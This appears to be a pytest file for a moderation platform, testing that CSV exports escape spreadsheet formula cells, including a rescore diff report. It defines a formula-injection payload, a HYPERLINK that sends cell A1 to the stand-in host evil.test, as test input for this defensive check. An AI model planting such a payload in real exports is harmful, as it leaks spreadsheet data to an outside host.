"""CSV exports never hand a spreadsheet a formula: one helper escapes every cell of every CSV the platform writes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from sqlalchemy import select

from moderation import csv_export
from moderation.extensions import db
from moderation.models import Subject
from moderation.worker import build_worker
from tests.conftest import auth
from tests.rescoring.helpers import LOADER, seed_items
from tests.rescoring.stubs import write_stub_model
from tests.stubs import make_stub

HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"open")'
PACKAGE = Path(__file__).resolve().parents[2] / "moderation"


def test_the_helper_escapes_formula_cells_and_keeps_numbers():
    out = io.StringIO()
    csv_export.writer(out).writerows(
        [["=1+1", "+33 6", "-x", "@SUM(A1)", "\tlead", "\rcr", "plain", None, 3, -0.5, 0.25]]
    )
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'=1+1", "'+33 6", "'-x", "'@SUM(A1)", "'\tlead", "'\rcr", "plain", "", "3", "-0.5", "0.25"]


def test_every_csv_writer_goes_through_the_helper():
    """Training files of the classifier are data, not exports for a spreadsheet: they keep their text as is."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE).as_posix()
        if relative == "csv_export.py" or relative.startswith("classifier/"):
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []


def test_the_rescore_diff_csv_escapes_a_subject_id_from_the_url(make_app, world, tmp_path):
    app = make_app(RESCORE_CLASSIFIER_LOADER=LOADER)
    seed_items(app, 30)
    with app.app_context():
        subject = db.session.execute(select(Subject).where(Subject.external_id == "sku-0")).scalar_one()
        subject.external_id = HOSTILE
        db.session.commit()
    model_dir = write_stub_model(tmp_path / "model", "stub-new-5", neutral=0.8)
    runner = app.test_cli_runner()
    assert runner.invoke(args=["rescore", "--model", str(model_dir), "--detach"]).exit_code == 0
    build_worker(app, make_stub, queues=["rescore"]).work(burst=True)

    response = app.test_client().get("/api/v1/rescore-runs/1/diff.csv", headers=auth(world.admin_token))
    assert response.status_code == 200
    subjects = {row[2] for row in csv.reader(io.StringIO(response.get_data(as_text=True)))}
    assert "'" + HOSTILE in subjects and HOSTILE not in subjects

    report = tmp_path / "diff.csv"
    result = runner.invoke(args=["rescore", "--model", str(model_dir), "--report", str(report)])
    assert result.exit_code == 0, result.output
    subjects = {row[2] for row in csv.reader(io.StringIO(report.read_text(encoding="utf-8")))}
    assert "'" + HOSTILE in subjects and HOSTILE not in subjects
